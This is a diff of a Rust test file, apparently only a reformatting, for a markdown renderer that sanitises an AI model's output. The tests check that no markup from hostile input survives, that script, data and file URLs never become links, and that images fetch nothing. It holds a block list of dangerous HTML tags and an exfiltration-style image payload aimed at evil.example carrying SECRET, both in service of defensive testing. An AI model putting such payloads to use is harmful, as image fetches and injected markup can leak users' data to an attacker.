@@ -157,7 +157,38 @@ impl Random {
     }
 
     fn markdown(&mut self) -> String {
-        let parts = ["# ", "- ", "1. ", "> ", "```", "\n", "\n\n", "    ", "*", "**", "`", "[", "](", ")", "<b>", "<", ">", "&lt;", "&", "|", "---", "x", "ü ", "https://a.b", "\\", "!", "~~", "\"", "- [ ] ", "[x]: /y\n"];
+        let parts = [
+            "# ",
+            "- ",
+            "1. ",
+            "> ",
+            "```",
+            "\n",
+            "\n\n",
+            "    ",
+            "*",
+            "**",
+            "`",
+            "[",
+            "](",
+            ")",
+            "<b>",
+            "<",
+            ">",
+            "&lt;",
+            "&",
+            "|",
+            "---",
+            "x",
+            "ü ",
+            "https://a.b",
+            "\\",
+            "!",
+            "~~",
+            "\"",
+            "- [ ] ",
+            "[x]: /y\n",
+        ];
         (0..self.below(60)).map(|_| parts[self.below(parts.len())]).collect()
     }
 }
@@ -167,7 +198,10 @@ fn r1_r3_r4_no_markup_of_a_models_own_survives() {
     for source in HOSTILE {
         let html = all(source);
         assert_harmless(&html, source);
-        for word in ["<script", "<img", "<svg", "<iframe", "<style", "<form", "<base", "<meta", "<link", "<object", "<math", "<video"] {
+        for word in [
+            "<script", "<img", "<svg", "<iframe", "<style", "<form", "<base", "<meta", "<link", "<object", "<math",
+            "<video",
+        ] {
             assert!(!html.contains(word), "{source:?} makes {html}");
         }
     }
@@ -184,7 +218,10 @@ fn r2_only_addresses_of_the_web_and_of_mail_become_links() {
     ] {
         assert!(all(source).contains(&format!("href=\"{href}\"")), "{}", all(source));
     }
-    for source in HOSTILE.iter().filter(|source| source.contains("script:") || source.contains("data:") || source.contains("file:")) {
+    for source in HOSTILE
+        .iter()
+        .filter(|source| source.contains("script:") || source.contains("data:") || source.contains("file:"))
+    {
         assert!(!all(source).to_lowercase().contains("href=\""), "{source:?} links: {}", all(source));
     }
     let link = all("[x](https://ok.example)");
@@ -194,7 +231,10 @@ fn r2_only_addresses_of_the_web_and_of_mail_become_links() {
 #[test]
 fn r7_an_image_is_a_link_and_fetches_nothing() {
     let html = all("![a cat](https://evil.example/?q=SECRET \"title\")");
-    assert!(html.contains("<a href=\"https://evil.example/?q=SECRET\"") && html.contains("a cat") && !html.contains("<img"), "{html}");
+    assert!(
+        html.contains("<a href=\"https://evil.example/?q=SECRET\"") && html.contains("a cat") && !html.contains("<img"),
+        "{html}"
+    );
 }
 
 #[test]
